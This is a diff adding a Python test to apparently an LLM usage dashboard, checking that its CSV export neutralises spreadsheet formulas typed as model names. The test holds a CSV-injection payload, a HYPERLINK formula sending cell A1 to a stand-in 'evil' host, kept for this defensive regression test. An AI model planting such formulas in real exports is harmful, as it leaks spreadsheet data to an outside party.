@@ -106,3 +106,15 @@ def test_health_page_is_for_staff_and_shows_error_rates(client, calls, owner, st
 
     row = next(r for r in health(rollups(staff, Filters.default())) if r["model"] == "gpt-4o-mini")
     assert row["errors"]["rate_limited"] == 1 and row["retries_per_success"] == 0.5
+
+
+def test_csv_export_neutralises_formulas_in_user_typed_model_names(client, providers, fake, owner):
+    # Finding 8 of issue 19: a model name typed by the user reached the CSV as a live formula.
+    fake.script(Reply(text="a", usage={"input_tokens": 1, "output_tokens": 1}),
+                Reply(text="b", usage={"input_tokens": 1, "output_tokens": 1}))
+    complete(purpose="artifacts.summary", prompt="1", provider="openai", model='=HYPERLINK("http://evil/?"&A1)', user=owner)
+    complete(purpose="artifacts.summary", prompt="2", provider="openai", model="@SUM(1+1)", user=owner)
+    client.force_login(owner)
+    body = b"".join(client.get("/llm/dashboard/export.csv").streaming_content).decode()
+    models = {r["model_name"] for r in csv.DictReader(io.StringIO(body))}
+    assert models == {"'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(1+1)"}
